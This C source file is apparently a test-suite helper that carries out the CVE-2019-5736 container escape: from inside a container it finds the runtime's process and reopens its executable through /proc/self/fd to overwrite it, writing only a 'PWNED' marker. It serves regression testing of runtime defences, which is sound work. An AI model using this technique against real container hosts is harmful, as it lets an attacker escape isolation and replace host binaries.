/*
 * exe-attacker: the CVE-2019-5736 attack from inside a container. It looks
 * for a process of its pid namespace running a program other than busybox
 * (the runtime, tricked into executing itself in the container), keeps that
 * program's file open, and once the process has exited (a running program
 * cannot be written: ETXTBSY) opens the file again for writing through
 * /proc/self/fd and appends to it. Built static by the test fixture into the
 * test rootfs as /bin/exe-attacker.
 *
 *   exe-attacker SECONDS
 *
 * prints "opened TARGET", then "written" or "write refused: ERROR", or
 * "gave up" when no such process showed up in time.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

/* Opens the program of another process that is not busybox; -1 when there is none. */
static int open_foreign_exe(char *target, size_t size)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	int fd = -1;
	while (fd < 0 && proc && (entry = readdir(proc))) {
		int pid = atoi(entry->d_name);
		if (pid <= 0 || pid == getpid())
			continue;
		char link[64];
		snprintf(link, sizeof(link), "/proc/%d/exe", pid);
		ssize_t n = readlink(link, target, size - 1);
		if (n <= 0)
			continue;
		target[n] = '\0';
		if (strstr(target, "busybox") || strstr(target, "exe-attacker"))
			continue;
		fd = open(link, O_PATH | O_CLOEXEC);
	}
	if (proc)
		closedir(proc);
	return fd;
}

int main(int argc, char **argv)
{
	double deadline = now() + (argc > 1 ? atof(argv[1]) : 10);
	char target[4096];
	int fd = -1;
	while (fd < 0 && now() < deadline)
		fd = open_foreign_exe(target, sizeof(target));
	if (fd < 0) {
		printf("gave up\n");
		return 0;
	}
	printf("opened %s\n", target);
	fflush(stdout);

	char self[64];
	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	while (now() < deadline) {
		int w = open(self, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (w >= 0) {
			if (write(w, "PWNED\n", 6) == 6)
				printf("written\n");
			else
				printf("write refused: %s\n", strerror(errno));
			return 0;
		}
		if (errno != ETXTBSY) {
			printf("write refused: %s\n", strerror(errno));
			return 0;
		}
		usleep(1000);
	}
	printf("write refused: still running\n");
	return 0;
}
